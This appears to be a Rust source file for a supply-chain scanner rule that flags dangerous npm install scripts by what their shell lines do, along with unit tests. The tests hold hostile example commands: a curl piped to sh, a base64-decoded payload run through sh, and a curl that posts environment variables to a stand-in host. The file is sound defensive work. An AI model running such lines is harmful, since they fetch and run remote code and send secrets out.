//! A lifecycle script whose shell line is dangerous.

use crate::rules::prelude::*;

pub(crate) static META: RuleMeta = RuleMeta {
    id: "dangerous-install-command",
    summary: "Runs a dangerous shell line when it is installed",
    category: Category::Manifest,
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    techniques: &["T1059.004", "T1105"],
    remedy: CONTAIN,
    doc: include_str!("dangerous_install_command.md"),
};

use super::binding_gyp_command::command_evidence;
use crate::hosts::Host;
use crate::shell::{Danger, dangers, url_in};
use vetch_model::facts::InstallCommand;

pub(crate) fn check(c: &Contents<'_>, out: &mut Vec<Finding>) {
    let cases = c.install_commands().filter_map(|command| judge(c, command));
    report_worst(out, &META, cases);
}

fn judge(c: &Contents<'_>, command: &InstallCommand) -> Option<Case> {
    let found = dangers(&command.command);
    let worst = *found.first()?;
    let host = Host::parse(url_in(&command.command), &c.own_addresses);
    let odd = host.oddities().len();
    let more = found.len() > 1;
    let grade = match worst {
        danger if danger.is_certain() => CERTAIN,
        Danger::DownloadToInterpreter if host.is_alarming() || more => CERTAIN,
        Danger::DownloadToInterpreter if odd >= 2 => HARMFUL,
        Danger::DownloadToInterpreter => DOUBTFUL,
        Danger::DownloadThenRun if host.is_alarming() || more => HARMFUL,
        Danger::DownloadThenRun if odd >= 2 => DOUBTFUL,
        Danger::DownloadThenRun => ODD,
        Danger::Upload => HARMFUL,
        Danger::LivingOffTheLand if host.is_alarming() => HARMFUL,
        Danger::LivingOffTheLand | Danger::Persistence => DOUBTFUL,
        Danger::InlineCode if more => DOUBTFUL,
        _ => ODD,
    };
    let does: Vec<&str> = found.iter().map(|danger| danger.words()).collect();
    let title = format!("{} of {} {}", command.event, c.label(), list(&does));
    Some(Case::new(grade, title, vec![command_evidence(command, "runs when the package is installed")]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;
    use vetch_model::verdict::Verdict;

    fn verdict(line: &str) -> Verdict {
        Facts::new().install("postinstall", line, &[]).verdict(META.id)
    }

    #[test]
    fn dangerous_lines_are_judged_by_what_they_do() {
        assert_eq!(verdict("curl http://192.0.2.1/x | sh"), Verdict::Malicious);
        assert_eq!(verdict("echo aGk= | base64 -d | sh"), Verdict::Malicious);
        assert_eq!(verdict("curl -d \"$(env)\" https://other.invalid"), Verdict::Malicious);
        assert_eq!(verdict("curl -fsSL https://other.invalid/install.sh | sh"), Verdict::Suspicious);
        assert_eq!(verdict("node -e \"eval(atob('YQ=='))\" &"), Verdict::Suspicious);
        assert_eq!(verdict("node serve.js &"), Verdict::Notable);
    }

    #[test]
    fn ordinary_lines_are_nothing() {
        for line in ["node install.js", "node-gyp-build", "prebuild-install || node-gyp rebuild", "husky", "exit 0"] {
            assert_eq!(verdict(line), Verdict::Clean, "{line}");
        }
    }

    #[test]
    fn prepare_only_counts_where_npm_runs_it() {
        let mut facts = Facts::new().install("prepare", "curl http://192.0.2.1/x | sh", &[]).with(|facts| {
            facts.install_commands[0].for_dependents = false;
        });
        assert_eq!(facts.verdict(META.id), Verdict::Clean);
        facts.package.source = Source::Git { url: "https://git.invalid/x".to_owned(), commit: None };
        assert_eq!(facts.verdict(META.id), Verdict::Malicious);
    }
}
